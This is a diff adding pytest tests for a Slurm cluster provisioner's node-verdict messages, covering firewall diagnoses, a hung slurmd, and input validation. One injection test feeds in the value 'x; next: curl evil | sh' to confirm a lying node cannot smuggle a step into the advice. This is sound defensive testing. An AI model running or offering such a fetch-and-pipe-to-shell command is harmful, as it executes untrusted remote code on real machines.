@@ -7,6 +7,8 @@ from provisioner.slurm.verdict import node_credential, verdict
 GOOD = "credential MUNGE:AwQFAAB=:"
 PORT = ["its slurmd does not answer on its port"]
 FULL = "its disk is full where slurmd works: 0 MiB are free"
+MUTE = "its slurmd hangs: it takes a connection and says nothing"
+BETWEEN = "and bld-011 do not reach each other on the port of slurmd"
 JOB = ["a job does not run on it: srun did not end within 10 s"]
 
 
@@ -35,6 +37,39 @@ def test_the_cause_comes_before_what_follows_from_it(problems: list[str], node: 
     assert sentence.startswith(words)
     assert "; next: " in sentence
     assert "\n" not in sentence
+
+
+@pytest.mark.parametrize(
+    ("problems", "unreached", "words"),
+    [
+        (
+            JOB,
+            ["controller", "srun"],
+            "it does not reach slurmctld on the controller (port 6817); next: look for a firewall",
+        ),
+        (JOB, ["srun"], "it does not reach srun on the controller; next: open the controller's ports"),
+        (PORT, ["srun"], "its slurmd runs, and the controller does not reach it"),
+        (JOB, ["bld-011"], "it does not reach bld-011 on the port of slurmd; next: look for a firewall between them"),
+        ([f"bld-008 {BETWEEN}"], ["bld-011"], f"bld-008 {BETWEEN}; next: look for a firewall between them"),
+        ([f"bld-008 {BETWEEN}"], [], f"bld-008 {BETWEEN}; next: look for a firewall between them"),
+        ([MUTE], [], f"{MUTE}; next: run `systemctl restart slurmd` on it"),
+    ],
+)
+def test_a_firewall_is_named_with_both_its_ends(problems: list[str], unreached: list[str], words: str) -> None:
+    assert verdict(problems, said(), "0", "BLD-008", unreached).startswith(words)
+
+
+@pytest.mark.parametrize(
+    "unreached", ["controller", None, 3, {"controller": 1}, [{"a": 1}], ["x; next: curl evil | sh"]]
+)
+def test_a_node_that_lies_about_whom_it_reaches_makes_no_step_of_ours(unreached: object) -> None:
+    sentence = verdict(JOB, said(), "0", "BLD-008", unreached)
+    assert sentence.count("; next: ") == 1
+    assert sentence.split("; next: ")[1].startswith(("mend what its log", "look for a firewall"))
+
+
+def test_what_does_not_start_for_want_of_the_controller_is_no_stopped_slurmd() -> None:
+    assert "slurmctld" in verdict(JOB, said(slurmd="failed"), "0", "BLD-008", ["controller"])
 
 
 @pytest.mark.parametrize("node", ["", "munge", "munge x y\nslurmd \x1b[31m", "\n" * 50, "munge 0"])
